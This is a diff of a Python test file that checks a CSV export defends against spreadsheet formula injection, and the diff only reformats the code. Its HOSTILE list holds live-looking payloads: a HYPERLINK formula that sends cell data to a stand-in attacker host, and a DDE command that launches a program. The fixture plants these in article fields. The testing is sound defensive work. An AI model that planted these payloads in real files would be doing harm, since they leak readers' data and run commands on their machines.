@@ -1,5 +1,6 @@
 """CSV a spreadsheet opens: a cell starting with =, +, -, @, a tab or a carriage return would run as a
 formula (=HYPERLINK(...) sends the reader's data away); such a cell starts with a single quote (OWASP)."""
+
 from __future__ import annotations
 
 import csv
@@ -9,17 +10,31 @@ import pytest
 
 from .conftest import AUTH
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
-           "@SUM(1,2)", "\t=1+1", "\r=1+1"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 @pytest.fixture
 def hostile_client(crafted_client):
     """The crafted index with three articles whose title, section and source start as formulas do."""
     for i in range(3):
-        response = crafted_client.post("/api/articles", headers=AUTH, json={
-            "title": f"{HOSTILE[i]} zanzibarite {i}", "body": f"The zanzibarite report number {i}.",
-            "section": HOSTILE[i + 3], "source": HOSTILE[(i + 4) % 6], "published": "2020-01-02"})
+        response = crafted_client.post(
+            "/api/articles",
+            headers=AUTH,
+            json={
+                "title": f"{HOSTILE[i]} zanzibarite {i}",
+                "body": f"The zanzibarite report number {i}.",
+                "section": HOSTILE[i + 3],
+                "source": HOSTILE[(i + 4) % 6],
+                "published": "2020-01-02",
+            },
+        )
         assert response.status_code == 201, response.get_json()
     return crafted_client
 
